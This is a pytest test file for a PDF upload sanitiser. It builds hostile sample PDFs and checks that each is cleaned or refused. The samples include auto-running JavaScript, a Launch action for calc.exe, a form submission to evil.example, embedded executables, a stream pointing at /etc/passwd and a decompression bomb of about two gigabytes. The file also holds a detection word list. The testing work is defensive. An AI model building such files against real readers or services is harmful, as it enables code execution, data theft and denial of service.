"""Uploaded PDFs: what is refused, what is taken out, and that nothing active is left."""

import io
import subprocess
import sys
import time
import zlib

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, Stream, String

from chalicelib.packet import pdf_check
from chalicelib.packet.pdf_check import check_pdf
from chalicelib.packet.pdf_worker import Refused, check
from chalicelib.services.ports import PdfRefused


def blank(pages=1):
    pdf = pikepdf.new()
    for _ in range(pages):
        pdf.add_blank_page(page_size=(612, 792))
    return pdf


def written(pdf, **options):
    made = io.BytesIO()
    pdf.save(made, **options)
    return made.getvalue()


JS = {"/S": Name.JavaScript, "/JS": String("app.alert(1)")}


def on_opening(pdf):
    pdf.Root.OpenAction = pdf.make_indirect(Dictionary(JS))


def after_another(pdf):
    last = pdf.make_indirect(Dictionary(JS))
    first = Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit]), Next=Array([last]))
    pdf.Root.OpenAction = pdf.make_indirect(first)


def in_the_names(pdf):
    tree = Dictionary(Names=Array([String("a"), pdf.make_indirect(Dictionary(JS))]))
    pdf.Root.Names = Dictionary(JavaScript=tree)


def on_a_page(pdf):
    pdf.pages[0].obj.AA = Dictionary(O=Dictionary(JS))


def in_a_field(pdf):
    field = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Widget,
        FT=Name.Tx,
        T=String("a"),
        Rect=[0, 0, 9, 9],
        AA=Dictionary(K=Dictionary(JS)),
    )
    made = pdf.make_indirect(field)
    pdf.pages[0].obj.Annots = Array([made])
    pdf.Root.AcroForm = Dictionary(Fields=Array([made]))


def link(**action):
    return Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=Dictionary(**action))


def starting_a_program(pdf):
    action = {"S": Name.Launch, "F": String("calc.exe")}
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(link(**action))])


def sending_a_form(pdf):
    action = {"S": Name.SubmitForm, "F": String("https://evil.example/")}
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(link(**action))])


def a_link_that_runs(pdf):
    action = {"S": Name.URI, "URI": String(" JavaScript:alert(1)")}
    pdf.pages[0].obj.Annots = Array([link(**action)])


def carrying_a_file(pdf):
    pdf.attachments["secret.exe"] = b"MZ"


def with_a_note_that_carries(pdf):
    stream = pdf.make_stream(b"MZ")
    spec = Dictionary(Type=Name.Filespec, F=String("a.exe"), EF=Dictionary(F=stream))
    note = Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=[0, 0, 9, 9], FS=spec)
    pdf.pages[0].obj.Annots = Array([note])


def with_a_film(pdf):
    note = Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=[0, 0, 9, 9])
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(note)])


def from_elsewhere(pdf):
    stream = Stream(pdf, b"")
    stream.F = String("/etc/passwd")
    pdf.pages[0].obj.Contents = pdf.make_indirect(stream)


ACTIVE = [
    (on_opening, "JavaScript"),
    (after_another, "JavaScript"),
    (in_the_names, "JavaScript"),
    (on_a_page, "actions that happen by themselves"),
    (in_a_field, "actions that happen by themselves"),
    (starting_a_program, "actions that start a program"),
    (sending_a_form, "actions"),
    (a_link_that_runs, "links to what is not on the web"),
    (carrying_a_file, "embedded files"),
    (with_a_note_that_carries, "media and attachments on a page"),
    (with_a_film, "media and attachments on a page"),
    (from_elsewhere, "content of other files"),
]
WORDS = [
    b"JavaScript",
    b"/JS",
    b"/AA",
    b"/Launch",
    b"/SubmitForm",
    b"/EF",
    b"/EmbeddedFile",
    b"/RichMedia",
    b"/FileAttachment",
    b"/etc/passwd",
    b"/XFA",
]


@pytest.mark.parametrize(("make", "what"), ACTIVE)
def test_active_content_is_taken_out_and_named(make, what):
    pdf = blank()
    make(pdf)
    content = written(pdf)
    pages, removed, cleaned = check(content, 10)
    assert what in removed
    assert (pages, cleaned != content) == (1, True)
    plain = written(pikepdf.open(io.BytesIO(cleaned)), qdf=True)
    assert [word for word in WORDS if word in plain] == []
    # Once more there is nothing left to take out, and the same upload gives the same bytes.
    assert check(cleaned, 10) == (1, [], cleaned)
    assert check(content, 10) == (pages, removed, cleaned)


def test_what_carries_nothing_active_stays_as_it_is():
    pdf = blank(3)
    pdf.pages[0].obj.Annots = Array(
        [
            link(S=Name.URI, URI=String("https://example.org/")),
            link(S=Name.GoTo, D=Array([pdf.pages[1].obj, Name.Fit])),
        ]
    )
    with pdf.open_outline() as outline:
        outline.root.append(pikepdf.OutlineItem("Second", 1))
    content = written(pdf)
    assert check(content, 3) == (3, [], content)


def test_active_content_in_an_object_stream_is_found():
    pdf = blank()
    on_opening(pdf)
    content = written(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    assert b"JavaScript" not in content
    found = check_pdf(content, 10)
    assert found.removed == ("JavaScript",)
    assert check(content, 10) == (1, ["JavaScript"], found.content)


@pytest.mark.parametrize(
    ("content", "why"),
    [
        (b"", "no PDF"),
        (b"%PDF-1.7\nhello", "damaged"),
        (written(blank())[:-60], "damaged"),
        (written(blank(4)), "4 pages; 3 fit"),
        (
            written(blank(), encryption=pikepdf.Encryption(owner="o", user="u")),
            "without a password",
        ),
        (written(blank(), encryption=pikepdf.Encryption(owner="o", user="")), "restricts"),
    ],
)
def test_what_is_not_taken_is_refused_with_the_reason(content, why):
    with pytest.raises(Refused, match=why):
        check(content, 3)


def test_what_is_no_pdf_is_refused_by_the_web_function_itself():
    for content in (b"", b"<html>%PDF-1.7</html>"):
        with pytest.raises(PdfRefused, match="no PDF"):
            check_pdf(content, 3)
    with pytest.raises(PdfRefused, match="damaged"):
        check_pdf(b"%PDF-1.7\nhello", 3)


def test_a_form_that_a_program_draws_is_refused():
    pdf = blank()
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=pdf.make_stream(b"<xdp/>"))
    with pytest.raises(Refused, match="XFA"):
        check(written(pdf), 3)


def test_a_file_that_swells_without_end_is_refused_and_costs_only_its_own_process():
    """An object stream of a few kilobytes that would need two gigabytes."""
    squeezer = zlib.compressobj(9)
    body = squeezer.compress(b"1 0 " + b" " * 2**20)
    for _ in range(2048):
        body += squeezer.compress(b" " * 2**20)
    body += squeezer.flush()
    head = b"%PDF-1.5\n"
    stream = b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n" % len(body)
    one = b"2 0 obj\n" + stream + body + b"\nendstream\nendobj\n"
    at = len(head) + len(one)
    rows = b"\x00\x00\x00\x00\x00\xff" + b"\x02" + (2).to_bytes(4) + b"\x00"
    rows += b"\x01" + len(head).to_bytes(4) + b"\x00" + b"\x01" + at.to_bytes(4) + b"\x00"
    refs = b"<</Type/XRef/Size 4/W[1 4 1]/Root 1 0 R/Length %d>>stream\n" % len(rows)
    content = head + one + b"3 0 obj\n" + refs + rows + b"\nendstream\nendobj\n"
    content += b"startxref\n%d\n%%%%EOF\n" % at
    assert len(content) < 4_000_000
    began = time.monotonic()
    with pytest.raises(PdfRefused):
        check_pdf(content, 10)
    assert time.monotonic() - began < pdf_check.WAIT_SECONDS + 5


def test_a_file_that_takes_too_long_is_refused(monkeypatch):
    monkeypatch.setattr(pdf_check, "WAIT_SECONDS", 0.01)
    with pytest.raises(PdfRefused, match="too much time"):
        check_pdf(written(blank()), 10)


def test_the_process_that_checks_is_told_nothing_of_this_one(monkeypatch):
    """Neither the installation's secret nor its keys to AWS."""
    monkeypatch.setenv("GROUNDSWELL_SECRET", "not-for-the-child")
    seen = {}
    real = subprocess.run

    def watch(command, **options):
        seen.update(options["env"])
        return real(command, **options)

    monkeypatch.setattr(subprocess, "run", watch)
    check_pdf(written(blank()), 10)
    assert set(seen) == {"PATH", "PYTHONPATH"}


def test_the_web_function_does_not_load_the_library():
    code = "import sys, app, chalicelib.bootstrap; print('pikepdf' in sys.modules)"
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert done.stdout.strip() == "False"
